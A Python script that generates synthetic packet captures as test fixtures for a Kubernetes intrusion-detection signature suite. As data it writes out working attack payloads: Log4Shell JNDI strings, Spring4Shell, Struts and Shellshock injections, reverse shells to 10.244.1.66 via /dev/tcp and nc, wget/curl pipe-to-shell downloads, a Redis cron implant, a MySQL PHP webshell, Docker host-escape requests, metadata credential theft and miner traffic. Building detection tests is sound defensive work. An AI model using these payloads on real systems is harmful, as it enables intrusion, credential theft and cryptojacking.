#!/usr/bin/env python3
"""Writes the proof captures for the shipped signatures (signatures/src/main/resources/signatures/):
one small, deterministic capture per category in pcaps/signatures/, each beside the
*.expected.json that ShippedSignaturesTest checks (exact alerts per sid, shipped rules only).

Synthesised like make_demo.py (whose packet builders it reuses): correct lengths and checksums,
full TCP handshakes and FIN teardowns, pods on 10.244.1.0/24 and 10.244.2.0/24, the node's
bridge address 10.244.1.1, the link-local metadata address 169.254.169.254.
Run: python3 pcaps/tools/make_signatures.py
"""
import importlib.util
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("make_demo", os.path.join(HERE, "make_demo.py"))
demo = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(demo)
OUT_DIR = os.path.normpath(os.path.join(HERE, "..", "signatures"))

WEB, API, ATTACKER, NODE, CLIENT = "10.244.1.10", "10.244.1.20", "10.244.1.66", "10.244.1.1", "10.244.2.30"
IMDS = "169.254.169.254"


def req(method, path, host, headers=(), body=b"", ua="curl/8.5.0", ctype="application/json"):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % host]
    if ua:
        lines.append("User-Agent: %s" % ua)
    lines.append("Accept: */*")
    lines += list(headers)
    if body:
        lines.append("Content-Type: %s" % ctype)
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def resp(status, body=b"", ctype="text/plain"):
    return ("HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (status, ctype, len(body))).encode() + body


class Cap(demo.Capture):
    def __init__(self):
        super().__init__()
        self.port = 42000

    def http(self, client, server, dport, exchanges):
        self.port += 1
        self.session(client, server, self.port, dport, exchanges)

    def tcp(self, client, server, dport, exchanges):
        self.port += 1
        self.session(client, server, self.port, dport, exchanges)

    def udp(self, src, dst, sport, dport, payload):
        self.add(self.frame(src, dst, demo.udp(src, dst, sport, dport, payload), proto=17))


def http_exploits():
    c = Cap()
    ok = resp("200 OK", b"hello\n")
    # Log4Shell variants
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/", "web:8080", ua="jndi:ldap://10.244.1.66:1389/a"), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("POST", "/login", "web:8080", body=b"user=%24%7Bjndi%3Aldap%3A%2F%2F10.244.1.66%3A1389%2Fa%7D&pass=x",
                                      ctype="application/x-www-form-urlencoded"), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/", "web:8080", ["X-Forwarded-For: ${${lower:j}${lower:n}di:ldap://10.244.1.66/a}"]), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/", "web:8080", ["Referer: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.10.244.1.66/}"]), ok)])
    # the JNDI callback: LDAP search result carrying a remote class reference, then the class download
    ldap = (b"0\x81\x90\x02\x01\x02d\x81\x8a\x04\x01a0\x81\x840\x16\x04\rjavaClassName1\x05\x04\x03foo0*\x04\x0cjavaCodeBase1\x1a"
            b"\x04\x18http://10.244.1.66:8000/0$\x04\x0bobjectClass1\x15\x04\x13javaNamingReference0\x18\x04\x0bjavaFactory1\t\x04\x07Exploit")
    c.tcp(WEB, ATTACKER, 1389, [(b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00", b"0\x0c\x02\x01\x01a\x07\n\x01\x00\x04\x00\x04\x00"),
                               (b"0%\x02\x01\x02c \x04\x01a\n\x01\x00\n\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectClass", ldap)])
    c.http(WEB, ATTACKER, 8000, [(req("GET", "/Exploit.class", "10.244.1.66:8000", ua="Java/1.8.0_181"),
                                 resp("200 OK", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 24, "application/java-vm"))])
    # Spring4Shell (CVE-2022-22965) in the body and in the query, Spring Cloud Function SpEL (CVE-2022-22963)
    c.http(ATTACKER, WEB, 8080, [(req("POST", "/app/greeting", "web:8080",
        body=b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        ctype="application/x-www-form-urlencoded"), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", "web:8080"), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("POST", "/functionRouter", "web:8080",
        ['spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")'], body=b"x", ctype="text/plain"),
        resp("500 Internal Server Error", b"err\n"))])
    # Struts2 OGNL: Content-Type (S2-045, CVE-2017-5638) and namespace in the URI (S2-057, CVE-2018-11776)
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/struts2-showcase/index.action", "web:8080",
        ["Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"]), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/struts2-showcase/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29%7D/actionChain1.action", "web:8080"), ok)])
    # Shellshock (CVE-2014-6271) in a CGI request header
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/cgi-bin/status", "web:8080", ua="() { :; }; /bin/bash -c 'id'"), ok)])
    # path traversal to /etc/passwd (plain and encoded) with the file in the answer, and to the service-account token
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/static/../../../../etc/passwd", "web:8080"),
        resp("200 OK", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"))])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "web:8080"), resp("404 Not Found", b"no\n"))])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/static/..%2f..%2f..%2fvar/run/secrets/kubernetes.io/serviceaccount/token", "web:8080"),
        resp("200 OK", b"eyJhbGciOiJSUzI1NiIsImtpZCI6IkNyb3dzbmVzdCJ9.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50In0.c2ln"))])
    # SSRF through a pod to the cloud metadata service
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "web:8080"), ok)])
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/proxy?target=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", "web:8080"), ok)])
    return c


def control_plane():
    c = Cap()
    d = "10.244.1.1:2375"
    c.http(ATTACKER, NODE, 2375, [(req("GET", "/version", d, ua="Docker-Client/24.0.7 (linux)"), resp("200 OK", b'{"Version":"24.0.7"}', "application/json"))])
    c.http(ATTACKER, NODE, 2375, [(req("POST", "/v1.43/images/create?fromImage=alpine&tag=latest", d), resp("200 OK", b'{"status":"Pulling"}'))])
    body = b'{"Image":"alpine","Cmd":["chroot","/host","sh"],"HostConfig":{"Privileged":true,"PidMode":"host","Binds":["/:/host"]}}'
    c.http(ATTACKER, NODE, 2375, [(req("POST", "/v1.43/containers/create?name=x", d, body=body), resp("201 Created", b'{"Id":"9a1b"}', "application/json"))])
    c.http(ATTACKER, NODE, 2375, [(req("POST", "/v1.43/containers/9a1b/start", d), resp("204 No Content"))])
    c.http(ATTACKER, NODE, 2375, [(req("POST", "/v1.43/containers/9a1b/exec", d, body=b'{"AttachStdout":true,"Privileged":true,"Cmd":["cat","/host/etc/shadow"]}'),
        resp("201 Created", b'{"Id":"e1"}', "application/json"))])
    c.http(ATTACKER, NODE, 2375, [(req("POST", "/v1.43/exec/e1/start", d, body=b'{"Detach":false,"Tty":false}'), resp("200 OK", b"x"))])
    # kubelet: read-only port and the API port in cleartext (an exposed, unauthenticated kubelet)
    k = "10.244.1.1:10250"
    c.http(ATTACKER, NODE, 10255, [(req("GET", "/pods", "10.244.1.1:10255"), resp("200 OK", b'{"kind":"PodList","items":[]}', "application/json"))])
    c.http(ATTACKER, NODE, 10250, [(req("GET", "/runningpods/", k), resp("200 OK", b'{"kind":"PodList"}', "application/json"))])
    c.http(ATTACKER, NODE, 10250, [(req("POST", "/run/default/web-0/web", k, body=b"cmd=cat+/var/run/secrets/kubernetes.io/serviceaccount/token",
        ctype="application/x-www-form-urlencoded"), resp("200 OK", b"x"))])
    c.http(ATTACKER, NODE, 10250, [(req("GET", "/exec/default/web-0/web?command=id&input=1&output=1&tty=1", k,
        ["Connection: Upgrade", "Upgrade: SPDY/3.1"]), resp("403 Forbidden", b"x"))])
    # etcd: v2 keys and the v3 gateway range over the secrets prefix
    c.http(ATTACKER, "10.244.1.5", 2379, [(req("GET", "/v2/keys/?recursive=true", "10.244.1.5:2379"), resp("200 OK", b'{"action":"get"}', "application/json"))])
    c.http(ATTACKER, "10.244.1.5", 2379, [(req("POST", "/v3/kv/range", "10.244.1.5:2379", body=b'{"key":"L3JlZ2lzdHJ5L3NlY3JldHMv","range_end":"L3JlZ2lzdHJ5L3NlY3JldHMw"}'),
        resp("200 OK", b'{"header":{}}', "application/json"))])
    # Kubernetes API (insecure port) read of secrets with a bearer token
    c.http(ATTACKER, "10.244.1.2", 8080, [(req("GET", "/api/v1/namespaces/kube-system/secrets", "10.244.1.2:8080",
        ["Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IkNyb3dzbmVzdCJ9.e30.c2ln"], ua="kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"),
        resp("200 OK", b'{"kind":"SecretList"}', "application/json"))])
    # the same source uses the token again: first use alerts once (9100125), not the second call
    c.http(ATTACKER, "10.244.1.2", 8080, [(req("GET", "/api/v1/namespaces/default/pods", "10.244.1.2:8080",
        ["Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IkNyb3dzbmVzdCJ9.e30.c2ln"], ua="kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"),
        resp("200 OK", b'{"kind":"PodList"}', "application/json"))])
    # cloud metadata from a pod: AWS (v1 and the IMDSv2 token), GCP, Azure
    c.http(WEB, IMDS, 80, [(req("GET", "/latest/meta-data/iam/security-credentials/node-role", IMDS), resp("200 OK", b'{"AccessKeyId":"ASIA"}'))])
    c.http(WEB, IMDS, 80, [(req("PUT", "/latest/api/token", IMDS, ["X-aws-ec2-metadata-token-ttl-seconds: 21600"]), resp("200 OK", b"AQAEAA=="))])
    c.http(WEB, IMDS, 80, [(req("GET", "/latest/user-data", IMDS, ["X-aws-ec2-metadata-token: AQAEAA=="]), resp("200 OK", b"#!/bin/bash\n"))])
    c.http(WEB, IMDS, 80, [(req("GET", "/computeMetadata/v1/instance/service-accounts/default/token", "metadata.google.internal", ["Metadata-Flavor: Google"]),
        resp("200 OK", b'{"access_token":"ya29"}', "application/json"))])
    c.http(WEB, IMDS, 80, [(req("GET", "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", IMDS, ["Metadata: true"]),
        resp("200 OK", b'{"access_token":"eyJ0"}', "application/json"))])
    c.http(WEB, IMDS, 80, [(req("GET", "/metadata/instance?api-version=2021-02-01", IMDS, ["Metadata: true"]), resp("200 OK", b"{}", "application/json"))])
    return c


def post_compromise():
    c = Cap()
    # reverse shell from the web pod: bash -i banner, root prompt, uname output, commands typed by the attacker
    c.tcp(WEB, ATTACKER, 4444, [(b"bash: cannot set terminal process group (1): Inappropriate ioctl for device\nbash: no job control in this shell\nroot@web-0:/app# ", b""),
        (b"", b"uname -a\n"), (b"Linux web-0 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\nroot@web-0:/app# ", b""),
        (b"", b"wget -qO- http://10.244.1.66/m.sh | bash\n"), (b"root@web-0:/app# ", b""),
        (b"", b"echo Y3VybCAxMC4yNDQuMS42Ni94fHNo | base64 -d | sh\n"), (b"root@web-0:/app# ", b""),
        (b"", b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n"), (b"root@web-0:/app# ", b"")])
    # a second shell as an unprivileged user, reading /etc/shadow
    c.tcp(API, ATTACKER, 9001, [(b"", b"id\n"), (b"uid=1000(app) gid=1000(app) groups=1000(app),27(sudo)\n", b""),
        (b"", b"sudo cat /etc/shadow\n"), (b"root:$6$Qx1.salt$9Zm0aHashedPasswordxxxxxxxxxxxx:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n", b"")])
    # a reverse-shell one-liner and nc -e delivered in HTTP requests (command injection)
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/ping?host=127.0.0.1;bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/10.244.1.66/4444%200%3E%261%27", "web:8080"), resp("200 OK", b"x"))])
    c.http(ATTACKER, WEB, 8080, [(req("POST", "/api/diag", "web:8080", body=b"host=127.0.0.1|nc -e /bin/sh 10.244.1.66 4445", ctype="application/x-www-form-urlencoded"), resp("200 OK", b"x"))])
    # tool downloads from inside a pod: kubectl and a miner
    c.http(WEB, ATTACKER, 80, [(req("GET", "/release/v1.29.0/bin/linux/amd64/kubectl", "10.244.1.66", ua="Wget/1.21.4"), resp("200 OK", b"\x7fELF\x02\x01\x01"))])
    c.http(WEB, ATTACKER, 80, [(req("GET", "/xmrig-6.21.0-linux-static-x64.tar.gz", "10.244.1.66", ua="Wget/1.21.4"), resp("200 OK", b"\x1f\x8b\x08\x00"))])
    # miners: XMRig login (with agent), keepalived, job from the pool; Stratum submit / notify / extranonce; ethproxy login and hashrate
    c.tcp(WEB, ATTACKER, 14444, [(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n',
        b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"blob":"0e0e8fe2d6a3","job_id":"1","target":"b88d0600","algo":"rx/0"},"status":"OK"}}\n'),
        (b'{"id":2,"jsonrpc":"2.0","method":"keepalived","params":{"id":"1"}}\n', b'{"id":2,"jsonrpc":"2.0","error":null,"result":{"status":"KEEPALIVED"}}\n')])
    c.tcp(API, ATTACKER, 3333, [(b'{"id":3,"method":"mining.extranonce.subscribe","params":[]}\n', b'{"id":null,"method":"mining.notify","params":["8c6f","04000000","ab",true]}\n'),
        (b'{"id":100,"method":"mining.submit","params":["w1","8c6f","00000000","5a8823","0e0e"]}\n', b'{"id":100,"result":true,"error":null}\n')])
    c.tcp(API, ATTACKER, 8008, [(b'{"worker":"eth1.0","jsonrpc":"2.0","params":["0x9c99d212f7e5daa18ab50810e0fd255d1f04303b.w1","x"],"id":2,"method":"eth_submitLogin"}\n', b'{"id":2,"result":true}\n'),
        (b'{"jsonrpc":"2.0","params":["0x0000000000000000000000000000000000000000000000000000000000a1b2c3","0x59daa26581d0acd1fce254fb7e85952f4c09d0915afd33d3886cd914bc7d283c"],"id":6,"method":"eth_submitHashrate"}\n', b'{"id":6,"result":true}\n')])
    # scanners and attack tools by user agent, against the web pod
    uas = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
           "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
           "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
           "gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
           "Mozilla/4.0 (Hydra)", "feroxbuster/2.10.1"]
    for ua in uas:
        c.http(ATTACKER, WEB, 8080, [(req("GET", "/", "web:8080", ua=ua), resp("404 Not Found", b"no\n"))])
    # nuclei/ffuf leave their marker in the request even with a browser UA; nmap's HTTP service probe
    c.http(ATTACKER, WEB, 8080, [(req("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "web:8080", ua=None), resp("404 Not Found", b"no\n"))])
    return c


def resp_cmd(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a.encode() if isinstance(a, str) else a
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def datastores():
    c = Cap()
    r = "10.244.1.11"
    ok = b"+OK\r\n"
    c.tcp(ATTACKER, r, 6379, [(resp_cmd("AUTH", "default", "guess1"), b"-WRONGPASS invalid username-password pair or user is disabled.\r\n"),
                             (resp_cmd("COMMAND", "DOCS"), b"*0\r\n")])
    c.tcp(ATTACKER, r, 6379, [(resp_cmd("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"), ok),
                             (resp_cmd("CONFIG", "SET", "dbfilename", "root"), ok),
                             (resp_cmd("SET", "x", "\n\n*/1 * * * * curl -fsSL http://10.244.1.66/x.sh | sh\n\n"), ok),
                             (resp_cmd("SAVE"), ok)])
    c.tcp(ATTACKER, r, 6379, [(resp_cmd("SLAVEOF", "10.244.1.66", "21000"), ok)])
    c.tcp(ATTACKER, "10.244.2.11", 6379, [(resp_cmd("REPLICAOF", "10.244.1.66", "21000"), ok),
                                         (resp_cmd("MODULE", "LOAD", "/data/exp.so"), ok),
                                         (resp_cmd("system.exec", "id"), b"$9\r\nuid=999\n\r\n")])
    c.tcp(ATTACKER, r, 6379, [(resp_cmd("EVAL", 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res', "0"),
                              b"$24\r\nuid=0(root) gid=0(root)\n\r\n")])
    # PostgreSQL: startup, then COPY ... FROM PROGRAM as a simple query
    pg = "10.244.1.12"
    startup = b"user\0postgres\0database\0postgres\0\0"
    startup = struct.pack("!II", 8 + len(startup), 196608) + startup
    auth_ok = b"R" + struct.pack("!II", 8, 0) + b"Z" + struct.pack("!I", 5) + b"I"

    def q(sql):
        sql = sql.encode() + b"\0"
        return b"Q" + struct.pack("!I", 4 + len(sql)) + sql
    c.tcp(ATTACKER, pg, 5432, [(startup, auth_ok), (q("CREATE TABLE cmd_exec(cmd_output text);"), b"C\0\0\0\x11CREATE TABLE\0Z\0\0\0\x05I"),
                              (q("COPY cmd_exec FROM PROGRAM 'id';"), b"C\0\0\0\x0bCOPY 1\0Z\0\0\0\x05I")])
    # MySQL: COM_QUERY with INTO OUTFILE (webshell) and LOAD_FILE
    my = "10.244.1.13"

    def com_query(sql, seq=0):
        p = b"\x03" + sql.encode()
        return struct.pack("<I", len(p))[:3] + bytes([seq]) + p
    greet = b"\x0a8.0.36\0" + b"\x01\0\0\0" + b"abcdefgh\0" + b"\xff\xf7\x21\x02\0\xff\x81\x15" + b"\0" * 10 + b"ijklmnopqrst\0mysql_native_password\0"
    greet = struct.pack("<I", len(greet))[:3] + b"\0" + greet
    ok_pkt = b"\x07\0\0\x01\0\0\0\x02\0\0\0"
    c.tcp(ATTACKER, my, 3306, [(b"", greet), (com_query("SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/s.php'"), ok_pkt),
                              (com_query("SELECT LOAD_FILE('/etc/passwd')"), ok_pkt)])
    return c


def reflection():
    c = Cap()
    dns = "10.244.1.12"
    # DNS ANY with a 4096-byte EDNS0 buffer (amplification), spoofed-looking from a pod
    q = struct.pack("!HHHHHH", 0x5151, 0x0100, 1, 0, 0, 1) + b"\x07example\x03com\x00" + struct.pack("!HH", 255, 1) \
        + b"\x00" + struct.pack("!HHIH", 41, 4096, 0, 0)
    for i in range(3):
        c.udp(ATTACKER, dns, 40000 + i, 53, q)
    # memcached over UDP: stats and get (8-byte frame header)
    mc = "10.244.1.14"
    c.udp(ATTACKER, mc, 41000, 11211, struct.pack("!HHHH", 1, 0, 1, 0) + b"stats\r\n")
    c.udp(ATTACKER, mc, 41001, 11211, struct.pack("!HHHH", 2, 0, 1, 0) + b"get aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n")
    # NTP mode 7 MON_GETLIST_1 (monlist, request code 42)
    ntp = "10.244.1.15"
    c.udp(ATTACKER, ntp, 41002, 123, b"\x17\x00\x03\x2a" + b"\x00" * 4 + b"\x00" * 40)
    # SSDP M-SEARCH for everything
    c.udp(ATTACKER, "10.244.1.16", 41003, 1900, b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n')
    return c


def main():
    os.makedirs(OUT_DIR, exist_ok=True)
    for name, fn in [("http-exploits", http_exploits), ("control-plane", control_plane), ("post-compromise", post_compromise),
                     ("datastores", datastores), ("reflection", reflection)]:
        cap = fn()
        path = os.path.join(OUT_DIR, name + ".pcap")
        cap.write(path)
        print("wrote %s (%d packets)" % (os.path.relpath(path), len(cap.records)))


if __name__ == "__main__":
    main()
